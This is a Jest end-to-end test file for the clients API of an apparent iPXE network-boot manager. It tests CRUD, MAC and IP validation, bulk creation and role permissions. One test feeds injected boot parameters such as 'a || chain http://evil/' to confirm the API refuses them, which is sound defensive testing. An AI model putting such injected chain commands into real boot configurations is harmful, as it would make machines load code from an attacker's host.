import { DataSource } from 'typeorm';
import { clientBody, makeClient, makeImage, uniqueMac } from '../factories';
import { createTestApp, TestApp } from '../support/test-app';

jest.setTimeout(120_000);

const NIL = '00000000-0000-4000-8000-000000000000';

describe('clients (e2e)', () => {
  let t: TestApp;
  let ds: DataSource;
  let admin: string;
  let operator: string;
  let viewer: string;
  const as = (token: string) => ({ Authorization: `Bearer ${token}` });
  const count = async () => (await ds.query('SELECT count(*)::int AS n FROM clients'))[0].n as number;

  beforeAll(async () => {
    t = await createTestApp();
    ds = t.app.get(DataSource);
    admin = t.adminToken;
    operator = await t.tokenFor('operator');
    viewer = await t.tokenFor('viewer');
  });
  afterAll(async () => {
    await t?.close();
  });

  it('creates, reads, updates and deletes a client (operator)', async () => {
    const img = await makeImage(ds);
    const c = await t.http
      .post('/api/v1/clients')
      .set(as(operator))
      .send({ macAddress: 'AA-BB-CC-00-11-22', hostname: 'pc-01.lab', ipAddress: '192.168.50.21', assignedImageId: img.id, bootMode: 'uefi' })
      .expect(201);
    expect(c.body).toMatchObject({
      macAddress: 'aa:bb:cc:00:11:22',
      hostname: 'pc-01.lab',
      ipAddress: '192.168.50.21',
      assignedImageId: img.id,
      bootMode: 'uefi',
      cpuCores: 2,
      memoryMb: 2048,
      enabled: true,
      bootCount: 0,
      lastBootAt: null,
    });
    expect((await t.http.get(`/api/v1/clients/${c.body.id}`).set(as(viewer)).expect(200)).body).toEqual(c.body);
    const u = await t.http
      .patch(`/api/v1/clients/${c.body.id}`)
      .set(as(operator))
      .send({ enabled: false, ipAddress: null, macAddress: 'aabb.cc00.1133' })
      .expect(200);
    expect(u.body).toMatchObject({ enabled: false, ipAddress: null, macAddress: 'aa:bb:cc:00:11:33' });
    await t.http.delete(`/api/v1/clients/${c.body.id}`).set(as(operator)).expect(204);
    await t.http.get(`/api/v1/clients/${c.body.id}`).set(as(viewer)).expect(404);
    await t.http.delete(`/api/v1/clients/${c.body.id}`).set(as(operator)).expect(404);
  });

  it.each([['52:54:00:12:34:56'], ['52-54-00-12-34-56'], ['5254.0012.3456'], ['525400123456'], ['52:54:00:12:34:56'.toUpperCase()]])(
    'finds a client by MAC written as %s',
    async (mac) => {
      const existing = await ds.query(`SELECT id FROM clients WHERE mac_address = '52:54:00:12:34:56'`);
      if (!existing.length) await makeClient(ds, { macAddress: '52:54:00:12:34:56', hostname: 'by-mac' });
      const r = await t.http.get(`/api/v1/clients/by-mac/${mac}`).set(as(viewer)).expect(200);
      expect(r.body).toMatchObject({ macAddress: '52:54:00:12:34:56', hostname: 'by-mac' });
    },
  );

  it('by-mac: 400 for a bad MAC, 404 for an unknown one', async () => {
    const bad = await t.http.get('/api/v1/clients/by-mac/zz:zz').set(as(viewer)).expect(400);
    expect(bad.body).toMatchObject({ code: 'INVALID_MAC' });
    const unknown = await t.http.get('/api/v1/clients/by-mac/02:00:00:00:00:01').set(as(viewer)).expect(404);
    expect(unknown.body.code).toBe('CLIENT_NOT_FOUND');
  });

  it('rejects a duplicate MAC with 409 and a plain message', async () => {
    await makeClient(ds, { macAddress: '52:54:00:aa:bb:01' });
    const r = await t.http
      .post('/api/v1/clients')
      .set(as(operator))
      .send(clientBody({ macAddress: '5254.00AA.BB01' }))
      .expect(409);
    expect(r.body.message).toBe('MAC address 52:54:00:aa:bb:01 is already registered');
    const other = await makeClient(ds);
    const p = await t.http.patch(`/api/v1/clients/${other.id}`).set(as(operator)).send({ macAddress: '52:54:00:aa:bb:01' }).expect(409);
    expect(p.body.message).toBe('MAC address 52:54:00:aa:bb:01 is already registered');
  });

  it('names an unknown assignedImageId', async () => {
    const r = await t.http
      .post('/api/v1/clients')
      .set(as(operator))
      .send(clientBody({ assignedImageId: NIL }))
      .expect(404);
    expect(r.body).toMatchObject({ code: 'ASSIGNED_IMAGE_NOT_FOUND' });
    expect(r.body.message).toContain(`assignedImageId ${NIL}`);
  });

  it.each([
    ['macAddress', { macAddress: 'aa:bb:cc:dd:ee' }],
    ['macAddress', { macAddress: 'aa:bb-cc:dd:ee:ff' }],
    ['macAddress', { macAddress: 42 }],
    ['hostname', { hostname: '-bad' }],
    ['hostname', { hostname: 'has space' }],
    ['hostname', { hostname: 'a'.repeat(64) }],
    ['hostname', { hostname: 'under_score' }],
    ['ipAddress', { ipAddress: '300.1.1.1' }],
    ['ipAddress', { ipAddress: 'fe80::1' }],
    ['assignedImageId', { assignedImageId: 'nope' }],
    ['bootMode', { bootMode: 'bios' }],
    ['cpuCores', { cpuCores: 0 }],
    ['memoryMb', { memoryMb: -1 }],
    ['networkConfig', { networkConfig: 'x' }],
    ['enabled', { enabled: 'yes' }],
    ['unknownField', { unknownField: 1 }],
  ])('rejects create with bad %s', async (field, over) => {
    const r = await t.http.post('/api/v1/clients').set(as(operator)).send(clientBody(over)).expect(400);
    expect(JSON.stringify(r.body.message)).toContain(field);
  });

  it('rejects null for a required field on PATCH, and bad ids', async () => {
    const c = await makeClient(ds);
    const r = await t.http.patch(`/api/v1/clients/${c.id}`).set(as(operator)).send({ hostname: null }).expect(400);
    expect(r.body.message).toContain('hostname');
    await t.http.get('/api/v1/clients/123').set(as(viewer)).expect(400);
    await t.http.patch(`/api/v1/clients/${NIL}`).set(as(operator)).send({ enabled: true }).expect(404);
  });

  it('filters by enabledOnly and imageId, with pagination', async () => {
    const img = await makeImage(ds);
    await makeClient(ds, { assignedImageId: img.id, enabled: true });
    await makeClient(ds, { assignedImageId: img.id, enabled: false });
    await makeClient(ds, { assignedImageId: img.id, enabled: true });
    const all = await t.http.get('/api/v1/clients').query({ imageId: img.id }).set(as(viewer)).expect(200);
    expect(all.body.total).toBe(3);
    const enabled = await t.http.get('/api/v1/clients').query({ imageId: img.id, enabledOnly: 'true' }).set(as(viewer)).expect(200);
    expect(enabled.body.total).toBe(2);
    expect(enabled.body.items.every((c: { enabled: boolean }) => c.enabled)).toBe(true);
    const page = await t.http.get('/api/v1/clients').query({ imageId: img.id, limit: 1, offset: 1 }).set(as(viewer)).expect(200);
    expect(page.body).toMatchObject({ total: 3 });
    expect(page.body.items).toHaveLength(1);
    await t.http.get('/api/v1/clients').query({ imageId: 'x' }).set(as(viewer)).expect(400);
    await t.http.get('/api/v1/clients').query({ limit: 1000 }).set(as(viewer)).expect(400);
  });

  describe('bulk create', () => {
    it('creates all rows in one go', async () => {
      const img = await makeImage(ds);
      const rows = Array.from({ length: 25 }, (_, i) => clientBody({ hostname: `bulk-${i}`, assignedImageId: i % 2 ? img.id : undefined }));
      const r = await t.http.post('/api/v1/clients/bulk').set(as(operator)).send(rows).expect(201);
      expect(r.body.total).toBe(25);
      expect(r.body.items.map((c: { hostname: string }) => c.hostname)).toEqual(rows.map((x) => x.hostname));
    });

    it('writes nothing when one row is bad, and reports every bad row', async () => {
      const taken = await makeClient(ds);
      const before = await count();
      const dupMac = uniqueMac();
      const rows = [
        clientBody(),
        clientBody({ hostname: 'bad host' }),
        clientBody({ macAddress: dupMac }),
        clientBody({ macAddress: dupMac.toUpperCase().replace(/:/g, '-') }),
        clientBody({ macAddress: taken.macAddress }),
        clientBody({ assignedImageId: NIL }),
        'not-an-object',
        clientBody({ extra: true }),
      ];
      const r = await t.http.post('/api/v1/clients/bulk').set(as(operator)).send(rows).expect(400);
      expect(r.body.code).toBe('BULK_VALIDATION_FAILED');
      const byIndex = (i: number) => r.body.details.rows.filter((e: { index: number }) => e.index === i);
      expect(byIndex(0)).toEqual([]);
      expect(byIndex(1)[0]).toMatchObject({ field: 'hostname' });
      expect(byIndex(3)[0]).toMatchObject({ field: 'macAddress', message: `MAC address ${dupMac} also appears in row 2` });
      expect(byIndex(6)[0]).toMatchObject({ field: '(row)' });
      expect(byIndex(7)[0]).toMatchObject({ field: 'extra' });
      expect(await count()).toBe(before);

      // once the field errors are fixed, the database checks report the remaining rows
      const rows2 = [clientBody(), clientBody({ macAddress: taken.macAddress }), clientBody({ assignedImageId: NIL })];
      const r2 = await t.http.post('/api/v1/clients/bulk').set(as(operator)).send(rows2).expect(400);
      expect(r2.body.details.rows).toEqual([
        { index: 1, field: 'macAddress', message: `MAC address ${taken.macAddress} is already registered` },
        { index: 2, field: 'assignedImageId', message: `assignedImageId ${NIL} does not exist` },
      ]);
      expect(await count()).toBe(before);
    });

    it.each([[[]], [{}], ['x']])('rejects body %j', async (body) => {
      const r = await t.http
        .post('/api/v1/clients/bulk')
        .set(as(operator))
        .send(body as object)
        .expect(400);
      expect(r.body.code).toBe('BULK_VALIDATION_FAILED');
    });

    it('rejects more than 1000 rows', async () => {
      const rows = Array.from({ length: 1001 }, () => clientBody());
      const r = await t.http.post('/api/v1/clients/bulk').set(as(operator)).send(rows).expect(400);
      expect(r.body.message).toContain('1000');
    });

    it('rejects malformed JSON', async () => {
      await t.http.post('/api/v1/clients/bulk').set(as(operator)).set('Content-Type', 'application/json').send('[{').expect(400);
    });
  });

  describe('states that would fail at boot are refused at write time', () => {
    it('two clients may not reserve one ipAddress (POST and PATCH → 409, nothing written)', async () => {
      const a = await t.http
        .post('/api/v1/clients')
        .set(as(operator))
        .send(clientBody({ ipAddress: '10.44.0.5' }))
        .expect(201);
      const before = await count();
      const r = await t.http
        .post('/api/v1/clients')
        .set(as(operator))
        .send(clientBody({ ipAddress: '10.44.0.5' }))
        .expect(409);
      expect(r.body).toMatchObject({
        code: 'IP_ADDRESS_ALREADY_RESERVED',
        message: `ipAddress 10.44.0.5 is already reserved for client "${a.body.hostname}"`,
      });
      expect(await count()).toBe(before);
      const b = await makeClient(ds, { ipAddress: '10.44.0.6' });
      await t.http.patch(`/api/v1/clients/${b.id}`).set(as(operator)).send({ ipAddress: '10.44.0.5' }).expect(409);
      expect((await ds.query('SELECT host(ip_address) AS ip FROM clients WHERE id = $1', [b.id]))[0].ip).toBe('10.44.0.6');
      // keeping one's own address, and clearing it, are fine
      await t.http.patch(`/api/v1/clients/${a.body.id}`).set(as(operator)).send({ ipAddress: '10.44.0.5', hostname: 'kept-ip' }).expect(200);
      await t.http.patch(`/api/v1/clients/${a.body.id}`).set(as(operator)).send({ ipAddress: null }).expect(200);
      await t.http.patch(`/api/v1/clients/${b.id}`).set(as(operator)).send({ ipAddress: '10.44.0.5' }).expect(200);
    });

    it('concurrent reservations of one ipAddress: exactly one wins, the rest 409, never a 500', async () => {
      for (let round = 0; round < 3; round++) {
        const ip = `10.45.0.${round + 1}`;
        const answers = await Promise.all(
          Array.from({ length: 10 }, () =>
            t.http
              .post('/api/v1/clients')
              .set(as(operator))
              .send(clientBody({ ipAddress: ip })),
          ),
        );
        expect(answers.map((r) => r.status).sort()).toEqual([201, 409, 409, 409, 409, 409, 409, 409, 409, 409]);
        for (const r of answers.filter((x) => x.status === 409)) expect(r.body.code).toBe('IP_ADDRESS_ALREADY_RESERVED');
        expect((await ds.query('SELECT count(*)::int AS n FROM clients WHERE ip_address = $1', [ip]))[0].n).toBe(1);
      }
    });

    it('the database refuses a second reservation that bypasses the API', async () => {
      await makeClient(ds, { ipAddress: '10.46.0.1' });
      await expect(makeClient(ds, { ipAddress: '10.46.0.1' })).rejects.toThrow(/uq_clients_ip_address/);
    });

    it.each([
      ['ff:ff:ff:ff:ff:ff', 'the broadcast address'],
      ['FF-FF-FF-FF-FF-FF', 'the broadcast address'],
      ['00:00:00:00:00:00', 'the all-zero address'],
      ['01:00:5e:00:00:fb', 'a multicast (group) address'],
      ['33:33:00:00:00:01', 'a multicast (group) address'],
    ])('refuses the MAC %s (POST, PATCH, bulk)', async (mac, reason) => {
      const canonical = mac.toLowerCase().replace(/-/g, ':');
      const r = await t.http
        .post('/api/v1/clients')
        .set(as(operator))
        .send(clientBody({ macAddress: mac }))
        .expect(400);
      expect(r.body.message).toEqual([expect.stringContaining(`macAddress ${canonical} is ${reason}`)]);
      const c = await makeClient(ds);
      await t.http.patch(`/api/v1/clients/${c.id}`).set(as(operator)).send({ macAddress: mac }).expect(400);
      const b = await t.http
        .post('/api/v1/clients/bulk')
        .set(as(operator))
        .send([clientBody(), clientBody({ macAddress: mac })])
        .expect(400);
      expect(b.body.details.rows).toEqual([{ index: 1, field: 'macAddress', message: expect.stringContaining(reason) }]);
    });

    it.each(['127.0.0.1', '0.0.0.0', '169.254.1.1', '224.0.0.1', '255.255.255.255'])('refuses the reservation %s', async (ip) => {
      const r = await t.http
        .post('/api/v1/clients')
        .set(as(operator))
        .send(clientBody({ ipAddress: ip }))
        .expect(400);
      expect(r.body.message).toEqual([expect.stringMatching(new RegExp(`^ipAddress ${ip.replace(/\./g, '\\.')} lies in `))]);
    });

    it.each([
      ['a || chain http://evil/', 'must not contain the iPXE command separator ||'],
      ['a ; b', 'must not contain the iPXE command separator ;'],
      ['root=${root}', 'must not contain $, quotes or backslashes'],
      ["x='y'", 'must not contain $, quotes or backslashes'],
      ['a\\b', 'must not contain $, quotes or backslashes'],
      ['quiet\nchain http://evil/', 'only printable ASCII and spaces are allowed'],
      ['é', 'only printable ASCII and spaces are allowed'],
      ['#comment', 'a word must not start with # or :'],
      [':label', 'a word must not start with # or :'],
    ])("refuses customBootParams %j with the iPXE renderer's own rule (POST, PATCH, bulk)", async (params, reason) => {
      const before = await count();
      const r = await t.http
        .post('/api/v1/clients')
        .set(as(operator))
        .send(clientBody({ customBootParams: params }))
        .expect(400);
      expect(r.body.message).toEqual([expect.stringMatching(/^customBootParams: /)]);
      expect(r.body.message[0]).toContain(reason);
      const b = await t.http
        .post('/api/v1/clients/bulk')
        .set(as(operator))
        .send([clientBody(), clientBody({ customBootParams: params })])
        .expect(400);
      expect(b.body.details.rows).toEqual([{ index: 1, field: 'customBootParams', message: expect.stringContaining(reason) }]);
      expect(await count()).toBe(before);
      const c = await makeClient(ds, { customBootParams: 'quiet' });
      await t.http.patch(`/api/v1/clients/${c.id}`).set(as(operator)).send({ customBootParams: params }).expect(400);
      expect((await ds.query('SELECT custom_boot_params FROM clients WHERE id = $1', [c.id]))[0].custom_boot_params).toBe('quiet');
    });

    it('accepts ordinary kernel parameters', async () => {
      await t.http
        .post('/api/v1/clients')
        .set(as(operator))
        .send(clientBody({ customBootParams: 'quiet splash console=ttyS0,115200n8 rd.break=pre-mount' }))
        .expect(201);
    });

    it('bulk: duplicate and already reserved ipAddresses are row errors, nothing written', async () => {
      const holder = await makeClient(ds, { ipAddress: '10.47.0.1' });
      const before = await count();
      const rows = [
        clientBody({ ipAddress: '10.47.0.2' }),
        clientBody({ ipAddress: '10.47.0.2' }),
        clientBody({ ipAddress: '10.47.0.1' }),
        clientBody({ ipAddress: '10.47.0.3' }),
      ];
      const r = await t.http.post('/api/v1/clients/bulk').set(as(operator)).send(rows).expect(400);
      expect(r.body.details.rows).toEqual([{ index: 1, field: 'ipAddress', message: 'ipAddress 10.47.0.2 also appears in row 0' }]);
      const r2 = await t.http.post('/api/v1/clients/bulk').set(as(operator)).send([rows[0], rows[2], rows[3]]).expect(400);
      expect(r2.body.details.rows).toEqual([
        { index: 1, field: 'ipAddress', message: `ipAddress 10.47.0.1 is already reserved for client "${holder.hostname}"` },
      ]);
      expect(await count()).toBe(before);
      await t.http.post('/api/v1/clients/bulk').set(as(operator)).send([rows[0], rows[3]]).expect(201);
    });
  });

  it('roles: viewer reads only; operator and admin write', async () => {
    const c = await makeClient(ds);
    await t.http.get('/api/v1/clients').expect(401);
    await t.http.post('/api/v1/clients').set(as(viewer)).send(clientBody()).expect(403);
    await t.http.post('/api/v1/clients/bulk').set(as(viewer)).send([clientBody()]).expect(403);
    await t.http.patch(`/api/v1/clients/${c.id}`).set(as(viewer)).send({ enabled: false }).expect(403);
    await t.http.delete(`/api/v1/clients/${c.id}`).set(as(viewer)).expect(403);
    await t.http.post('/api/v1/clients').set(as(admin)).send(clientBody()).expect(201);
  });
});
